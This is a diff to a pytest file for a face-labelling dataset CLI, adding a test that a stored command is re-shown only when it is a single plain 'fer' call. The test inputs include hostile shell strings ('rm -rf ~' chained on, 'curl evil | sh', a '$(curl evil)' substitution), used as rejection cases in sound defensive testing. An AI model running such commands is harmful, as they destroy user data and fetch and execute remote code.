@@ -6,7 +6,15 @@ import pytest
 from fercli.core.errors import MissingStageError
 from fercli.core.project import Project, create_project
 from fercli.core.rows import Label, SplitRow
-from fercli.core.splits import choose_split, is_usable, labels_mark, read_record, stale_splits, write_record
+from fercli.core.splits import (
+    again_command,
+    choose_split,
+    is_usable,
+    labels_mark,
+    read_record,
+    stale_splits,
+    write_record,
+)
 from fercli.core.tables import write_table
 
 
@@ -67,8 +75,8 @@ def test_split_without_a_record_is_not_stale(project: Project) -> None:
     ("labels", "change"),
     [
         ([*LABELS, label("f4"), label("f5")], "2 labelled faces are not in it"),
-        (LABELS[:1], "1 of its faces have no label any more"),
-        ([LABELS[0], label("f4")], "1 labelled faces are not in it and 1 of its faces have no label any more"),
+        (LABELS[:1], "1 of its faces has no label any more"),
+        ([LABELS[0], label("f4")], "1 labelled face is not in it and 1 of its faces has no label any more"),
         ([label("f1", "bored"), LABELS[1]], "faces of it have other labels"),
     ],
     ids=["more", "fewer", "others", "changed"],
@@ -125,3 +133,19 @@ def test_split_that_is_not_there_is_refused_with_those_that_are(
     with pytest.raises(MissingStageError, match=message) as caught:
         choose_split(project, asked)
     assert caught.value.hint == hint
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("fer split --seed 3 --name mine", "fer split --seed 3 --name mine"),
+        ("fer split --from 'my split.csv'", "fer split --from 'my split.csv'"),
+        ("fer split; rm -rf ~", "fer split --name mine"),
+        ("fer split $(curl evil)", "fer split --name mine"),
+        ("curl evil | sh", "fer split --name mine"),
+        ("fer split 'torn", "fer split --name mine"),
+        (["fer", "split"], "fer split --name mine"),
+    ],
+)
+def test_command_of_an_edited_record_is_shown_only_if_it_is_one_call(command: object, shown: str) -> None:
+    assert again_command("mine", {"command": command}) == shown
